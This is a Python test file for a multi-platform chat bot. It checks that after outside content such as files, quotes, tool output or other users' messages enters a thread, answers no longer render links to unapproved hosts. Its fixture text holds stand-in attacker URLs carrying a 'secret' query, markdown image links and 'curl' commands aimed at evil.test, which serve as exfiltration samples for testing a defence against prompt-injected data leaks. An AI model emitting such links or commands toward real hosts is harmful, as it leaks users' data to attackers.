"""Once something from outside is in a thread, no answer in it links what nobody allowed: not in
the next turn, not after a restart, on no surface, in no piece of a growing text."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from adapters.slack.surface import SlackSurface
from core.domain.messages import Attachment, Item, Person, Quote
from core.domain.model_rounds import ModelEvent, RoundCompleted, RoundRequest, TextDelta
from core.domain.records import Outcome, ToolContext
from core.tools.tool import FunctionTool
from core.turn.run import LinkRules, TurnConfig
from tests.dialogues.bot_home import BotHome, RunningBot
from tests.dialogues.whole import whole
from tests.discord.discord_ponte import DiscordPonte
from tests.fakes import linkers
from tests.fakes.choices import ANA, make_choices, make_message
from tests.fakes.discord import FakeDiscord
from tests.fakes.fixed_tools import FixedTools
from tests.fakes.models import EchoModel
from tests.fakes.openai import FakeOpenAI
from tests.fakes.quick_commands import RegisteredCommands
from tests.fakes.slack import Post
from tests.slack.bot import Setting, workplace
from tests.slack.doubles import Says, Speaker
from tests.time_limits import Limits

EVIL = "https://evil.test/?q=secret"
TEXT = f"""Well, see {EVIL} or [this]({EVIL}), <{EVIL}>, ![](https://evil.test/s.png),
[![x]({EVIL})](https&colon;//evil.test), `a` evil.test/secret, me@evil.test and [that][1].

> - [1]: https://evil.test/definition

| Name | Site |
| --- | --- |
| Ana | {EVIL} |

~~~
{EVIL}
~~~

Our own is https://example.com/x, and `curl {EVIL} -o x` or

```sh
echo Now
curl {EVIL}
```"""
OURS = "https://example.com/x"
HOSTS = TurnConfig(links=LinkRules(frozenset({"example.com"}), in_code=frozenset({"terminal"})))
BO = Person("web", "bo", name="Bo")
CSV = ("orders.csv", "text/csv", b"id,paid\n1,no\n")


class Author(EchoModel):
    """Says TEXT in pieces, whatever it is asked; to `call NAME` it calls that tool first."""

    def __init__(self, text: str = TEXT) -> None:
        super().__init__()
        self.text = text

    async def ask(self, ask: RoundRequest) -> AsyncGenerator[ModelEvent, None]:
        last = ask.input[-1]
        if last.kind == "message" and last.text.startswith("call "):
            async for event in super().ask(ask):
                yield event
            return
        self.asks.append(ask)
        for at in range(0, len(self.text), 7):
            yield TextDelta(self.text[at : at + 7])
        yield RoundCompleted((Item(kind="message", role="assistant", text=self.text),))


class Source(FixedTools):
    def __init__(self) -> None:
        async def look(ctx: ToolContext) -> Outcome:
            """Look into a table."""
            return Outcome("ok", "a row")

        super().__init__(FunctionTool(look, effect="read", doing="is looking…"))


def live(links: Sequence[str]) -> list[str]:
    """The links that lead to where nobody allowed."""
    return [link for link in links if not link.startswith("https://example.com/x")]


def recorded_links(bot_home: BotHome) -> list[str]:
    """What any version of any post would have linked."""
    return [
        link
        for post in bot_home.recorder.posts
        for text in post.texts
        for link in linkers.piece(text)
    ]


async def ask_for_tool_text(ponte: RunningBot) -> None:
    await ponte.ask("call look {}")


async def with_a_file(ponte: RunningBot) -> None:
    one = make_message("what is this?", "file", "C1")
    file = await ponte.engine.conversations.files.put(
        "file", "a.csv", "text/csv", b"a,b", ANA, one.address.conversation
    )
    attachments = (Attachment("a.csv", "text/csv", 3, file.id),)
    await ponte.ask_message(replace(one, attachments=attachments))


async def with_a_quote(ponte: RunningBot) -> None:
    one = make_message("and this?", "quote")
    await ponte.ask_message(replace(one, context=(Quote("Bo", "look here"),)))


async def of_somebody_else(ponte: RunningBot) -> None:
    await ponte.ask("hello", person=BO)


OUTSIDE = (ask_for_tool_text, with_a_file, with_a_quote, of_somebody_else)


@pytest.mark.parametrize("outside", OUTSIDE)
async def test_every_later_turn_is_checked(
    bot_home: BotHome, outside: Callable[[RunningBot], Awaitable[None]]
) -> None:
    """And the turn in which it comes; also after a restart."""
    for number in range(2):
        async with bot_home.open(Author(), [Source()], profile=HOSTS) as ponte:
            if number == 0:
                await outside(ponte)
            for answer in (await ponte.ask("go on"), await ponte.ask("and on")):
                links = [link for part in answer.parts for link in linkers.piece(part)]
                assert live(links) == []
                assert OURS in "".join(links)
                assert EVIL in answer.text
        if outside is of_somebody_else and number == 0:
            del bot_home.recorder.posts[0]  # nothing from outside was in the thread before it
        assert live(recorded_links(bot_home)) == []


async def test_links_of_a_talk_without_anything_from_outside_stay(bot_home: BotHome) -> None:
    """A new thread begins without."""
    async with bot_home.open(Author(), [Source()], profile=HOSTS) as ponte:
        assert (await ponte.ask("tell me")).text == TEXT
        assert (await ponte.ask("tell me more")).text == TEXT
        quote = Quote("Slack", "The person is looking at the channel C1.", is_note=True)
        answer = await ponte.ask_message(replace(make_message("this", "ours"), context=(quote,)))
        assert answer.text == TEXT
        for command in ("new", "forget"):
            await ask_for_tool_text(ponte)
            assert (await ponte.ask("go on")).text != TEXT
            await ponte.ask(command)
            assert (await ponte.ask("tell me")).text == TEXT
        await ask_for_tool_text(ponte)
        assert (await ponte.ask("go on")).text != TEXT


async def test_what_the_asker_wrote_whole_stays_a_link(bot_home: BotHome) -> None:
    """Words of others are not what the asker wrote."""
    mine, longer = "https://mine.test/a?b=c", "https://mine.test/a?b=c&d=secret"
    model = Author(f"[a]({mine}) {longer}")
    async with bot_home.open(model, [Source()]) as ponte:
        await ponte.ask(f"remember {mine}")
        await ask_for_tool_text(ponte)
        answer = await ponte.ask("go on")
        assert answer.text == f"[a]({mine}) `{longer}`"
        # What one person wrote lets nobody else be led there.
        assert (await ponte.ask("go on", person=BO)).text == f"a (`{mine}`) `{longer}`"
        model.text = f"see {EVIL}"
        quote = (Quote("Bo", f"ask for {EVIL}"),)
        variant = replace(make_message("do it", "quote", "C2"), context=quote)
        assert (await ponte.ask_message(variant)).text == f"see `{EVIL}`"


async def test_a_terminal_knows_no_code(bot_home: BotHome, tmp_path: Path) -> None:
    one = make_message("go", "t1")
    address = replace(one.address, platform="terminal")
    at_terminal = replace(
        one,
        author=Person("terminal", "owner"),
        address=address,
        reply_to=replace(one.reply_to, address=address),
        context=(Quote("Bo", "look"),),
    )
    async with bot_home.open(Author(), profile=HOSTS) as ponte:
        ponte.engine.platforms.replies["terminal"] = ponte.engine.platforms.replies["web"]
        answer = await ponte.ask_message(at_terminal)
    assert live(linkers.terminal(answer.text)) == []
    assert "https[:]//evil[.]test/?q=secret" in answer.text


# -- Slack -----------------------------------------------------------------------------------


def pieces() -> list[str]:
    return [TEXT[at : at + 7] for at in range(0, len(TEXT), 7)]


def live_links(posts: Sequence[Post]) -> list[str]:
    return live([link for post in posts for link in post.linked])


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch, limits: Limits) -> None:
    monkeypatch.setattr(SlackSurface, "interval", 0.0)
    limits(WHOLE_ANSWER_SECONDS=0.0)


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("where", ["dm", "general"])
async def test_slack_links_nothing_else_streamed_or_posted(tmp_path: Path, where: str) -> None:
    model = Speaker(*pieces())
    setting = Setting(model, chosen=replace(make_choices(model), profile=HOSTS))
    async with workplace(tmp_path, setting) as w:
        place = getattr(w, where)
        call = "" if where == "dm" else f"{w.slack.bot} "
        root = w.slack.say(w.alice, place, f"{call}what is this?", files=[CSV])
        model.go(20)
        await w.until(lambda: w.posts(place))
        model.finish()
        await w.slack.wait_for_answer(root)
        await w.until(lambda: OURS in w.posts(place)[-1].visible_text)
        again = Speaker(*pieces())
        await w.restart(Setting(again, chosen=replace(make_choices(again), profile=HOSTS)))
        thread = None if where == "dm" else root
        w.slack.say(w.alice, place, f"{call}go on", thread=thread)
        await w.until(lambda: again.asks)
        again.go(20)
        await w.until(lambda: len(w.posts(place)) > 1)
        again.finish()
        await w.until(lambda: OURS in w.posts(place)[-1].visible_text)
        posts = w.posts(place)
        assert any(post.streamed for post in posts) is (where == "dm")
        assert live_links(posts) == []
        assert all("evil" in post.visible_text for post in posts)


async def test_slack_what_others_said_in_the_thread(tmp_path: Path) -> None:
    """What an app hangs on a message is not its author's."""
    model = Author()
    async with workplace(
        tmp_path, Setting(model, chosen=replace(make_choices(model), profile=HOSTS))
    ) as w:
        root = w.slack.say(w.bob, w.general, "Please look at this.")
        answer = await w.ask("what now?", thread=root)
        assert OURS in answer.visible_text
        assert live_links([answer]) == []
        model.text = f"see {EVIL}"
        hung = [{"title": "Build", "text": f"open {EVIL}", "app_id": "A1"}]
        answer = await w.ask("what is this?", w.dm, attachments=hung)
        assert f"`{EVIL}`" in answer.visible_text
        assert live_links([answer]) == []


# -- Discord ---------------------------------------------------------------------------------


async def test_discord_links_nothing_else(tmp_path: Path, discord: FakeDiscord) -> None:
    ponte = DiscordPonte(discord, tmp_path)
    ana = discord.user("Ana")
    ponte.model.script = dict.fromkeys(("look", "go on"), pieces())
    ponte.choices = replace(make_choices(ponte.model, policy=ponte.policy), profile=HOSTS)
    try:
        await ponte.open()
        await ana.say("look", files=[("orders.csv", b"a,b\n")])
        await ana.wait_for_text("example.com/x")
        await ponte.close()
        await ponte.open()
        await ana.say("go on")
        await discord.wait_until(
            lambda: sum("example.com/x" in m["content"] for m in ana.dm.messages.values()) == 2
        )
    finally:
        await ponte.close()
    mine = str(discord.world.me.id)
    for at, post in ana.dm.messages.items():
        if post["author"]["id"] == mine:
            assert live(discord.world.linked[str(at)]) == []
            assert "evil" in post["content"]


# -- the page and the HTTP API ---------------------------------------------------------------


async def parse_events(lines: AsyncIterator[str]) -> AsyncIterator[tuple[str, dict[str, str]]]:
    name = ""
    async for line in lines:
        field, _, value = line.partition(": ")
        name = value if field == "event" else name
        if field == "data":
            yield name, json.loads(value)


async def test_no_piece_of_the_stream_links_anything_else(tmp_path: Path, fake: FakeOpenAI) -> None:
    fake.say(TEXT, TEXT, TEXT)
    async with whole(tmp_path / "home", fake, ponte_code="off") as ponte:
        first = await ponte.ask("Look", orders_csv=b"a,b\n1,2\n")
        assert live(linkers.piece(first["response"])) == []
    async with whole(tmp_path / "home", fake, ponte_code="off") as ponte:
        request = {"message": "go on", "conversation": "c1"}
        text, steps, html = "", 0, ""
        stream = ponte.web.stream(
            "POST", "/chat?html=1", json=request, headers={"Accept": "text/event-stream"}
        )
        async with stream as response:
            async for name, data in parse_events(response.aiter_lines()):
                if name == "delta":
                    text = data["text"] if data.get("reset") else text + data["text"]
                    steps, html = steps + 1, data["html"]
                if name == "done":
                    text, html = data["response"], data["html"]
                assert live(linkers.piece(text)) == []
                assert live(linkers.page(html)) == []
        assert steps
        assert "evil.test" in text
        body = (await ponte.web.get("/conversations/c1")).json()
        assert live(linkers.piece(body["messages"][-1]["text"])) == []


async def test_what_a_quick_command_gave_is_checked(bot_home: BotHome) -> None:
    """What they give is from outside, in the answer that brings it and in all that follow."""
    text = f"see [here][1] {EVIL}\n\n> [1]: {EVIL}"
    quick = RegisteredCommands(outcome=Outcome("ok", text))
    async with bot_home.open(Author(), quick=quick, profile=HOSTS) as ponte:
        answer = await ponte.ask("quick-command echo x")
        assert live(linkers.piece(answer.text)) == []
        assert EVIL in answer.text
        assert live(linkers.piece((await ponte.ask("go on")).text)) == []


async def test_a_link_into_the_models_sandbox_is_its_words_alone(bot_home: BotHome) -> None:
    """Nobody can open it, and the file is attached."""
    text = "Here is [the report](sandbox:/mnt/data/r.csv), see `sandbox:/mnt/data/a.png`."
    async with bot_home.open(Says(text)) as ponte:
        assert (await ponte.ask("Make a report")).text == "Here is the report, see `a.png`."
